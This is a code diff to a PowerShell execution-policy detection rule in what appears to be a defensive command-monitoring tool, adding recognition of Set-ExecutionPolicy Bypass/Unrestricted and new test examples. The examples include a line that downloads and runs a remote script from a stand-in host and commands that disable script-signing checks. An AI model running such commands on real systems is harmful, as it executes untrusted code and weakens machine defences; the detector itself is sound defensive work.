@@ -658,6 +658,13 @@ const scriptPolicy: CommandRule = {
   tactic: TACTIC,
   technique: "T1059.001",
   match(inv) {
+    // The machine's or the user's policy itself set to run anything from now on (not one process's).
+    if (inv.name === "set-executionpolicy") {
+      const policy = inv.args.find((x) => /^(bypass|unrestricted)$/i.test(x));
+      const scope = inv.args[inv.args.findIndex((x) => /^-scope$/i.test(x)) + 1] ?? "LocalMachine";
+      if (policy === undefined || /^process$/i.test(scope)) return undefined;
+      return { action: { capability: "impair-defences", target: { name: "PowerShell execution policy" }, reversibility: "recoverable", scope: "one" }, reason: `sets PowerShell's execution policy to ${policy} for ${scope}: unsigned scripts run unchecked from now on (T1059.001)` };
+    }
     if (!/^(powershell|pwsh)(\.exe)?$/i.test(inv.name)) return undefined;
     const i = inv.args.findIndex((x) => /^-(ep|exec|executionpolicy)$/i.test(x));
     if (i < 0 || !/^(bypass|unrestricted)$/i.test(inv.args[i + 1] ?? "")) return undefined;
@@ -665,8 +672,8 @@ const scriptPolicy: CommandRule = {
     return { action: { capability: "impair-defences", target: { name: "PowerShell execution policy" }, reversibility: "recoverable", scope: "one" }, reason: `runs PowerShell with its execution policy off (${inv.args[i + 1]})${file ? `, a script from ${shown(file)}` : ""}: unsigned scripts run unchecked (T1059.001)` };
   },
   examples: {
-    match: [`powershell.exe -ExecutionPolicy Bypass -File '\\\\fs01\\it$\\tools\\Install-Agent.ps1'`, `pwsh -ep bypass -c "iex (irm https://x.example/a.ps1)"`],
-    noMatch: [`pwsh -File ./build.ps1`, `powershell -ExecutionPolicy RemoteSigned -File .\\setup.ps1`],
+    match: [`Set-ExecutionPolicy Unrestricted -Scope LocalMachine -Force`, `powershell.exe -ExecutionPolicy Bypass -File '\\\\fs01\\it$\\tools\\Install-Agent.ps1'`, `pwsh -ep bypass -c "iex (irm https://x.example/a.ps1)"`],
+    noMatch: [`Set-ExecutionPolicy Bypass -Scope Process -Force`, `Set-ExecutionPolicy RemoteSigned -Scope CurrentUser`, `pwsh -File ./build.ps1`, `powershell -ExecutionPolicy RemoteSigned -File .\\setup.ps1`],
   },
 };
 
